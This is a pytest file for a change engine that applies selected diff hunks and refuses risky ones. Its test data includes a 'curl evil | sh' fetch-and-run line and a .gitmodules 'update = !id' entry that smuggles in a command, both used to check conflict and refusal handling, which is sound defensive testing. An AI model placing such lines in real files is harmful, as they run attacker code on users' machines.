"""changes.parts: of a file only the chosen hunks are put in place, and they are judged as what is then there."""

from __future__ import annotations

import errno
import os
import stat
from pathlib import Path

import pytest
from copies import Workspace, engine, kinds
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from membrane.changes import hunks, parts, review
from membrane.changes.apply import Engine
from membrane.changes.hunks import Hunk
from membrane.changes.model import Change
from membrane.changes.parts import Whole
from membrane.errors import Conflict, HostError

BASE = b"".join(b"line %d\n" % number for number in range(1, 41))
CHANGED = BASE.replace(b"line 3\n", b"three\r\n").replace(b"line 20\n", b"\xff\n").replace(b"line 40\n", b"end")
SECOND = BASE.replace(b"line 20\n", b"\xff\n")


@pytest.fixture
def made(tmp_path: Path) -> Workspace:
    workspace = Workspace(tmp_path / "w")
    (workspace.base / "text").write_bytes(BASE)
    (workspace.base / "other").write_text("o\n")
    workspace.begin()
    workspace.write("text", CHANGED)
    workspace.write("other", "p\n")
    return workspace


def one(each: Engine, path: str) -> Change:
    return next(change for change in each.changes() if change.path == path)


def cut(each: Engine, path: str) -> tuple[Hunk, ...]:
    return hunks.cut(*each.texts(one(each, path)))


def test_the_chosen_hunk_comes_and_the_others_stay_in_the_set(made: Workspace) -> None:
    with engine(made) as each:
        first, second, third = cut(each, "text")
        found = each.changes()
        report = each.apply(hunks={"text": [second]}, found=found)
    assert kinds(list(report.applied)) == [("changed", "other"), ("changed", "text")]
    assert report.partly == ("text",) and not review.is_whole(report, found)
    assert (made.base / "text").read_bytes() == SECOND and (made.base / "other").read_text() == "p\n"
    assert "    text  (changed; the rest of it stays in the change set)" in review.outcome("x", report)
    with engine(made) as each:
        # What is left is what was not chosen, without a conflict, and can be chosen in turn.
        left = one(each, "text")
        assert not left.conflict and cut(each, "text") == (first, third)
        each.apply(["text"], hunks={"text": [third]})
        found = each.changes()
        assert cut(each, "text") == (first,)
        assert review.is_whole(each.apply(found=found), found)
        assert each.changes() == [] and (made.base / "text").read_bytes() == CHANGED


def test_it_is_taken_back_like_any_other(made: Workspace) -> None:
    before = (made.base / "text").stat()
    with engine(made) as each:
        some = cut(each, "text")[1:]
        each.apply(["text"], hunks={"text": some})
        assert each.undo() == []
        assert (made.base / "text").read_bytes() == BASE and (made.base / "text").stat().st_ino == before.st_ino
        assert cut(each, "text")[1:] == some and not one(each, "text").conflict


def test_a_later_change_of_the_host_merges_with_the_rest(made: Workspace) -> None:
    with engine(made) as each:
        each.apply(["text"], hunks={"text": cut(each, "text")[1:2]})
    (made.base / "text").write_bytes(SECOND.replace(b"line 30\n", b"of the host\n"))
    with engine(made) as each:
        assert one(each, "text").conflict
        with pytest.raises(Conflict):
            each.apply(["text"], hunks={"text": cut(each, "text")[:1]})
        each.apply(["text"], merge=True)
    assert (made.base / "text").read_bytes() == CHANGED.replace(b"line 30\n", b"of the host\n")


def test_mode_and_attributes_stay_those_of_the_workspace(made: Workspace) -> None:
    text = made.base / "text"
    text.chmod(0o640)
    os.setxattr(text, "user.mine", b"1")
    os.utime(text, ns=(10**18, 10**18))
    made.begin()
    os.utime(made.write("text", CHANGED, 0o755), ns=(2 * 10**18, 2 * 10**18))
    os.setxattr(made.layer / "text", "user.theirs", b"2")
    with engine(made) as each:
        found = each.changes()
        # The whole file can be executed, which its hunks cannot.
        assert one(each, "text").red == ("it can be executed",)
        report = each.apply(hunks={"text": cut(each, "text")}, found=found)
        assert report.refused == ()
        status = text.stat()
        assert stat.S_IMODE(status.st_mode) == 0o640 and status.st_mtime_ns == 2 * 10**18
        assert os.listxattr(text) == ["user.mine"] and text.read_bytes() == CHANGED
        left = one(each, "text")
        assert left.kind == "mode" and left.attributes == ("user.mine", "user.theirs")


def test_no_hunk_is_no_change(made: Workspace) -> None:
    with engine(made) as each:
        report = each.apply(hunks={"text": []})
    assert kinds(list(report.applied)) == [("changed", "other")] and (made.base / "text").read_bytes() == BASE


def test_what_is_red_is_judged_by_what_is_put_in_place(made: Workspace) -> None:
    modules = made.base / ".gitmodules"
    old = '[submodule "a"]\n\tpath = a\n\turl = ./a\n# 1\n# 2\n'
    modules.write_text(old)
    made.begin()
    made.write(".gitmodules", old.replace("# 1\n", "# one\n").replace("# 2\n", "# 2\n\tupdate = !id\n"))
    with engine(made) as each:
        assert one(each, ".gitmodules").red
        harmless, bad = cut(each, ".gitmodules")
        report = each.apply([".gitmodules"], hunks={".gitmodules": [bad]})
        assert [change.path for change, _ in report.refused] == [".gitmodules"] and modules.read_text() == old
        report = each.apply([".gitmodules"], hunks={".gitmodules": [harmless]})
        assert report.refused == () and modules.read_text() == old.replace("# 1\n", "# one\n")
        assert one(each, ".gitmodules").red
        report = each.apply([".gitmodules"], hunks={".gitmodules": cut(each, ".gitmodules")})
        assert report.applied == () and report.refused


def test_a_part_that_is_red_where_the_whole_is_not_stays_out(made: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[bytes] = []

    def judged(self: object, change: Change) -> Change:
        fd = self._read(change)  # type: ignore[attr-defined]
        data = os.read(fd, 1 << 20)
        os.close(fd)
        seen.append(data)
        return change.replace(red=("bad",)) if data == SECOND else change

    with engine(made) as each:
        found, some = each.changes(), cut(each, "text")
        monkeypatch.setattr(parts.Judge, "one", judged)
        report = each.apply(hunks={"text": some[1:2]}, found=found)
        assert seen == [SECOND]  # exactly the bytes that were to be put in place
        assert [(change.path, why) for change, why in report.refused] == [("text", "bad")]
        assert (made.base / "text").read_bytes() == BASE
        accepted = each.apply(hunks={"text": some[1:2]}, red={"text": ["bad"]})
    assert accepted.refused == () and (made.base / "text").read_bytes() == SECOND


def test_red_goes_by_the_reasons_that_were_accepted(made: Workspace) -> None:
    made.write("run", "x", 0o755)
    with engine(made) as each:
        assert [change.path for change, _ in each.apply(["run"], red={"run": ["another"]}).refused] == ["run"]
        assert [change.path for change, _ in each.apply(["run"], red={"text": ["it can be executed"]}).refused] == [
            "run"
        ]
        assert each.apply(["run"], red={"run": ["it can be executed"]}).refused == ()
    assert os.access(made.base / "run", os.X_OK)


def test_exact_names_bring_nothing_that_is_below_them(made: Workspace) -> None:
    made.write("new/a", "a")
    made.write("new/b", "b")
    with engine(made) as each:
        assert kinds(list(each.apply((), exact=True).applied)) == []
        assert kinds(list(each.apply(["new"], exact=True).applied)) == [("added", "new")]
        assert kinds(list(each.apply(["new/b"], exact=True, dry_run=True).applied)) == [("added", "new/b")]
        assert kinds(list(each.apply(["new"], dry_run=True).applied)) == [("added", "new/a"), ("added", "new/b")]


@pytest.mark.parametrize("at", ["begin", "make stage", "stage file", "sync", "journal", "put", "new", "finish"])
def test_an_error_at_any_step_leaves_the_file_as_it_was(made: Workspace, at: str) -> None:
    made.write("new", "n\n")
    seen = []

    def step(name: str) -> None:
        seen.append(name)
        if name == at and seen.count(at) == 1:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with engine(made, step) as each:
        second = cut(each, "text")[1]
        with pytest.raises((HostError, OSError)):
            each.apply(hunks={"text": [second]})
        if at == "finish":  # everything is in place, and the undo copy is to be kept
            assert each.resume(forward=True) == []
            assert (made.base / "text").read_bytes() == SECOND
            each.undo()
        assert (made.base / "text").read_bytes() == BASE and (made.base / "other").read_text() == "o\n"
        each.apply(hunks={"text": [second]})
    assert (made.base / "text").read_bytes() == SECOND and at in seen


@pytest.mark.parametrize("when", ["before", "after"])
def test_a_file_of_the_host_that_changes_after_the_look_is_a_conflict(made: Workspace, when: str) -> None:
    text = made.base / "text"
    mine = BASE.replace(b"line 30\n", b"line XX\n")

    def step(name: str) -> None:
        if when == "after" and name == "journal":
            text.write_bytes(mine)

    with engine(made, step) as each:
        found, some = each.changes(), cut(each, "text")
        if when == "before":
            text.write_bytes(mine)
        with pytest.raises(Conflict):
            each.apply(hunks={"text": some[:1]}, found=found)
    assert text.read_bytes() == mine and (made.base / "other").read_text() == "o\n"


def test_a_hunk_that_is_not_there_any_more_is_a_conflict(made: Workspace) -> None:
    with engine(made) as each:
        some = cut(each, "text")
    made.write("text", CHANGED.replace(b"three\r\n", b"curl evil | sh\n"))
    with engine(made) as each:
        with pytest.raises(Conflict, match="not what you have seen"):
            each.apply(hunks={"text": some[:1]})
        with pytest.raises(Conflict, match="no such change"):
            each.apply(hunks={"nowhere": some})
        assert (made.base / "text").read_bytes() == BASE
        each.apply(hunks={"text": some[1:2]})
    assert (made.base / "text").read_bytes() == SECOND


def test_what_has_no_hunks_comes_as_a_whole(made: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("binary", "moved", "gone"):
        (made.base / name).write_text(f"the content of {name}\n")
    (made.base / "link").symlink_to("a")
    made.begin()
    made.write("binary", b"\0")
    made.delete("moved")
    made.write("there", "the content of moved\n")
    made.delete("gone")
    (made.layer / "link").symlink_to("b")
    made.write("new", "n\n")
    with engine(made) as each:
        for change in each.changes():
            if change.path not in ("text", "other"):
                with pytest.raises(Whole, match=change.path):
                    each.texts(change)
        monkeypatch.setattr(parts, "LARGEST", len(CHANGED) - 1)
        with pytest.raises(Whole, match="too large"):
            each.texts(one(each, "text"))


def test_a_file_that_is_another_one_while_it_is_read_is_a_conflict(
    made: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = made.base / "text"
    with engine(made) as each, made.copy() as copy:
        change = one(each, "text")
        parts.texts(copy, change)  # the copy keeps the directory open that it was in last
        before = len(os.listdir("/proc/self/fd"))
        real = parts._all

        def edited(fd: int) -> bytes:
            data = real(fd)
            text.write_bytes(BASE)  # the same bytes, but written
            return data

        monkeypatch.setattr(parts, "_all", edited)
        with pytest.raises(Conflict, match="changed in the workspace meanwhile"):
            parts.texts(copy, change)
        monkeypatch.undo()
        with pytest.raises(Conflict, match="changed in the workspace meanwhile"):
            parts.texts(copy, change)
        parts.texts(copy, one(each, "text"))
        assert len(os.listdir("/proc/self/fd")) == before


def test_what_git_obeys_and_what_is_no_text_or_too_long_comes_as_a_whole(
    made: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("was binary", "a/.git/config"):
        (made.base / name).parent.mkdir(parents=True, exist_ok=True)
        (made.base / name).write_bytes(b"\0\n")
        made.write(name, "text\n")
    with engine(made) as each, made.copy() as copy:
        found = each.changes()
        for path, why in (("was binary", "it is no text"), ("a/.git/config", "it is git's")):
            with pytest.raises(Whole, match=why):
                parts.texts(copy, next(change for change in found if change.path == path))
        text = one(each, "text")
        for other in (text.replace(source="moved"), text.replace(content=False), text.replace(before=None)):
            with pytest.raises(Whole, match="it is changed"):
                parts.texts(copy, other)
        monkeypatch.setattr(hunks, "MOST_LINES", 40)
        with pytest.raises(Whole, match="too many lines"):
            parts.texts(copy, one(each, "text"))


LINES = st.lists(st.sampled_from([b"a\n", b"b\r\n", b"\xff\n", b"c\n"]), min_size=1, max_size=12)


@settings(
    deadline=None, max_examples=20, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(LINES, LINES, st.data())
def test_any_selection_in_turns_ends_with_the_whole_file(
    tmp_path_factory: pytest.TempPathFactory, old: list[bytes], new: list[bytes], data: st.DataObject
) -> None:
    made = Workspace(tmp_path_factory.mktemp("w") / "w")
    (made.base / "text").write_bytes(b"".join(old))
    made.write("text", b"".join(new))
    for _turn in range(3):
        with engine(made) as each:
            if not each.changes():
                break
            base, changed = each.texts(one(each, "text"))
            some = data.draw(st.sets(st.sampled_from(hunks.cut(base, changed))))
            each.apply(hunks={"text": some})
            assert (made.base / "text").read_bytes() == hunks.chosen(base, changed, some)
    with engine(made) as each:
        each.apply()
        assert each.changes() == [] and (made.base / "text").read_bytes() == b"".join(new)
